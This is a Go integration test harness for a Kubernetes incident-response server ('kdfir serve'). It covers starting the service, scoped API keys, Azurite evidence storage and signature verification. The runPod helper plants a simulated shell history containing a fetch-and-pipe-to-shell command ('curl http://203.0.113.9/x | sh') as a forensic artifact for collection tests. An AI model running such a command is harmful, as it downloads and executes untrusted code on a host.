package server_test

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/Azure/azure-sdk-for-go/sdk/storage/azblob/container"
	"github.com/Azure/azure-sdk-for-go/sdk/storage/azblob/sas"
	"github.com/Azure/azure-sdk-for-go/sdk/storage/azblob/service"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/kdfir/kdfir/internal/auth"
	"github.com/kdfir/kdfir/internal/cli"
	"github.com/kdfir/kdfir/internal/evidence"
	"github.com/kdfir/kdfir/internal/journal"
	"github.com/kdfir/kdfir/internal/testenv"
)

const clusterID = "/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg/providers/Microsoft.ContainerService/managedClusters/testenv"

// svc is a running kdfir serve, started through the CLI exactly as a user
// would, with the harness's API server sending it its audit log.
type svc struct {
	url     string
	dataDir string
	keys    map[string]string // key name → secret
	client  *http.Client
	az      *testenv.Azurite
	sasURL  string // the evidence container, with a SAS token
	pub     ed25519.PublicKey
}

var (
	s          *svc
	listenAddr string
	certFile   string
	keyFile    string
	caPEM      []byte
	auditKey   string
)

func TestMain(m *testing.M) {
	// The API server needs the webhook's address, certificate and key
	// before it starts; kdfir serve starts later on that address.
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		panic(err)
	}
	listenAddr = l.Addr().String()
	l.Close()
	dir, err := os.MkdirTemp("", "kdfir-serve-test-")
	if err != nil {
		panic(err)
	}
	defer os.RemoveAll(dir)
	certFile, keyFile, caPEM = writeServingCert(dir)
	var hash string
	auditKey, hash, err = auth.Generate()
	if err != nil {
		panic(err)
	}
	auditHash = hash
	os.Exit(testenv.Main(m, testenv.Options{
		AuditWebhookURL:   "https://" + listenAddr + "/v1/audit",
		AuditWebhookToken: auditKey,
		AuditWebhookCA:    caPEM,
	}))
}

var auditHash string

var once, compatOnce sync.Once

// kdfir starts kdfir serve once per test binary.
func kdfir(t testing.TB) *svc {
	t.Helper()
	env := testenv.Get(t)
	once.Do(func() { s = startService(t, env, listenAddr, "") })
	if s == nil {
		t.Fatal("kdfir serve did not start")
	}
	return s
}

var compatSvc *svc

// kdfirCompat starts a second kdfir serve, configured as a team that
// switches from the original AKS function would: its markers, its own
// route name, and exec on.
func kdfirCompat(t testing.TB) *svc {
	t.Helper()
	env := testenv.Get(t)
	compatOnce.Do(func() {
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		addr := l.Addr().String()
		l.Close()
		compatSvc = startService(t, env, addr, "aks: {compat: original, route: /api/Respond}\nexec: {enabled: true, allow: [[cat]]}\n")
	})
	if compatSvc == nil {
		t.Fatal("kdfir serve (compat) did not start")
	}
	return compatSvc
}

// downKubeconfig names a cluster that does not answer.
const downKubeconfig = `apiVersion: v1
kind: Config
clusters: [{name: down, cluster: {server: "https://127.0.0.1:1", insecure-skip-tls-verify: true}}]
users: [{name: u, user: {token: t}}]
contexts: [{name: down, context: {cluster: down, user: u}}]
current-context: down
`

func startService(t testing.TB, env *testenv.Env, listen, extra string) *svc {
	ctx := context.Background()
	az, err := testenv.StartAzurite(ctx)
	if err != nil {
		t.Fatal(err)
	}
	cred, _ := service.NewSharedKeyCredential(testenv.AzuriteAccount, testenv.AzuriteKey)
	cc, err := container.NewClientWithSharedKeyCredential(az.URL+"/evidence", cred, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cc.Create(ctx, nil); err != nil {
		t.Fatal(err)
	}
	qp, err := sas.BlobSignatureValues{Protocol: sas.ProtocolHTTPSandHTTP, ExpiryTime: time.Now().Add(24 * time.Hour).UTC(),
		Permissions: (&sas.ContainerPermissions{Read: true, Add: true, Create: true, Write: true, List: true}).String(), ContainerName: "evidence"}.SignWithSharedKey(cred)
	if err != nil {
		t.Fatal(err)
	}
	dir, err := os.MkdirTemp("", "kdfir-serve-")
	if err != nil {
		t.Fatal(err)
	}
	sv := &svc{url: "https://" + listen, dataDir: filepath.Join(dir, "data"), keys: map[string]string{}, az: az,
		sasURL: az.URL + "/evidence?" + qp.Encode()}
	// The audit key may run what the closed loop's playbook does.
	keyLines := fmt.Sprintf("- {name: apiserver, hash: %q, scopes: [audit, collect-pod, isolate-pod], cluster: testenv}\n", auditHash)
	for name, scopes := range map[string]string{
		"admin":     "['*']",
		"collector": "[collect-pod, read]",
		"sentinel":  "[alerts, read, approve]",
		"defender":  "[alerts, read, collect-pod, isolate-pod]",
		"limited":   "[read]",
		"bulk":      "[alerts, read, isolate-pod]",
		"reverter":  "[revert, read]",
		"bound":     "[isolate-pod, revert, read]",
	} {
		secret, hash, err := auth.Generate()
		if err != nil {
			t.Fatal(err)
		}
		sv.keys[name] = secret
		rate := ""
		switch name {
		case "limited":
			rate = ", ratePerSecond: 1, burst: 3"
		case "bulk":
			rate = ", ratePerSecond: 100000, burst: 100000"
		case "bound":
			rate = ", cluster: down"
		}
		keyLines += fmt.Sprintf("- {name: %s, hash: %q, scopes: %s%s}\n", name, hash, scopes, rate)
	}
	books := filepath.Join(dir, "playbooks")
	if err := os.MkdirAll(books, 0o755); err != nil {
		t.Fatal(err)
	}
	writePlaybooks(t, books, sv.sasURL)
	// kdfir serve acts as the shipped roles, under the shipped admission
	// policy: a rule they lack, or one too many, fails a test here.
	sh, err := testenv.LoadShipped("../../deploy/rbac.yaml", "../../deploy/kdfir.yaml")
	if err != nil {
		t.Fatal(err)
	}
	saNS := "kdfir-serve-" + strings.ToLower(strings.NewReplacer(":", "-", ".", "-").Replace(listen))
	if _, err := env.Client.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: saNS}}, metav1.CreateOptions{}); err != nil && !apierrors.IsAlreadyExists(err) {
		t.Fatal(err)
	}
	user, err := env.ShippedUser(ctx, sh, saNS, "kdfir", "kdfir-isolate", "kdfir-cordon", "kdfir-exec", "kdfir-collector", "kdfir-collector-exec")
	if err != nil {
		t.Fatal(err)
	}
	down := filepath.Join(dir, "down.kubeconfig")
	if err := os.WriteFile(down, []byte(downKubeconfig), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg := fmt.Sprintf(`listen: %s
tls: {cert: %s, key: %s}
apiKeys:
%sclusters:
- {name: testenv, kubeconfig: %s, resourceId: %s}
- {name: down, kubeconfig: %s}
defaultCluster: testenv
playbooks: [%s]
evidence:
  destinations: {default: %q}
  allowedEndpoints: [%q]
alerts: {dedupeWindow: 10m}
labels: {allowedKeys: [status]}
%s`, listen, certFile, keyFile, keyLines, user.Kubeconfig, clusterID, down, books, sv.sasURL, az.URL, extra)
	cfgPath := filepath.Join(dir, "kdfir.yaml")
	if err := os.WriteFile(cfgPath, []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
	var out, errOut syncBuffer
	level := "warn"
	var logTo io.Writer = &errOut
	if p := os.Getenv("KDFIR_SERVE_LOG"); p != "" {
		f, err := os.Create(p)
		if err != nil {
			t.Fatal(err)
		}
		level, logTo = "debug", io.MultiWriter(f, &errOut)
	}
	go cli.Execute(context.Background(), []string{"--data-dir", sv.dataDir, "--log-level", level, "serve", "--config", cfgPath}, &out, logTo)
	pool := newPool(caPEM)
	sv.client = &http.Client{Timeout: 2 * time.Minute, Transport: &http.Transport{TLSClientConfig: pool, MaxIdleConnsPerHost: 100}}
	deadline := time.Now().Add(30 * time.Second)
	for {
		resp, err := sv.client.Get(sv.url + "/readyz")
		if err == nil {
			resp.Body.Close()
			if resp.StatusCode == 200 {
				break
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("kdfir serve not ready: %v\nstdout %s\nstderr %s", err, out.String(), errOut.String())
		}
		time.Sleep(100 * time.Millisecond)
	}
	key, _, err := evidence.LoadOrCreateKey(sv.dataDir)
	if err != nil {
		t.Fatal(err)
	}
	sv.pub = key.Public().(ed25519.PublicKey)
	return sv
}

type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.b.Write(p)
}
func (b *syncBuffer) String() string { b.mu.Lock(); defer b.mu.Unlock(); return b.b.String() }

// call sends a request with a key (in ?code= when viaCode) and decodes the
// JSON answer.
func (sv *svc) call(t testing.TB, method, path, key string, body []byte, out any) int {
	t.Helper()
	req, err := http.NewRequest(method, sv.url+path, bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if key != "" {
		req.Header.Set("x-functions-key", key)
	}
	resp, err := sv.client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	if out != nil && len(b) > 0 {
		if err := json.Unmarshal(b, out); err != nil {
			t.Fatalf("%s %s: %d %s: %v", method, path, resp.StatusCode, b, err)
		}
	}
	return resp.StatusCode
}

func pod(t testing.TB, env *testenv.Env, ns, name string) *corev1.Pod {
	t.Helper()
	p, err := env.Client.CoreV1().Pods(ns).Get(context.Background(), name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func quarantined(t testing.TB, env *testenv.Env, ns, name string) bool {
	return pod(t, env, ns, name).Labels["kdfir.io/quarantine"] == "true"
}

func policies(t testing.TB, env *testenv.Env, ns string) int {
	t.Helper()
	l, err := env.Client.NetworkingV1().NetworkPolicies(ns).List(context.Background(), metav1.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return len(l.Items)
}

func runPod(t testing.TB, env *testenv.Env, ns, name string) {
	t.Helper()
	if _, err := env.RunPod(context.Background(), testenv.PodSpec{Namespace: ns, Name: name,
		Files: map[string]string{"/root/.bash_history": "curl http://203.0.113.9/x | sh\n"}, Logs: []string{"started"}}); err != nil {
		t.Fatal(err)
	}
}

// verifyEvidence checks the collection an action wrote to Azurite.
func verifyEvidence(t testing.TB, sv *svc, actionID string) {
	t.Helper()
	var e journal.Entry
	if code := sv.call(t, "GET", "/v1/actions/"+actionID, sv.keys["admin"], nil, &e); code != 200 || e.Status != journal.Succeeded {
		t.Fatalf("collection %s: %d %s %s", actionID, code, e.Status, e.Error)
	}
	var res evidence.Result
	if err := json.Unmarshal(e.Result, &res); err != nil {
		t.Fatal(err)
	}
	sink, err := evidence.SinkFromURL(sv.sasURL)
	if err != nil {
		t.Fatal(err)
	}
	rep, err := evidence.Verify(context.Background(), sink.Sub(res.Prefix), sv.pub)
	if err != nil {
		t.Fatal(err)
	}
	if !rep.OK() || !rep.Trusted || rep.Checked < 5 {
		t.Fatalf("evidence at %s does not verify: %+v", res.Prefix, rep.Problems)
	}
}
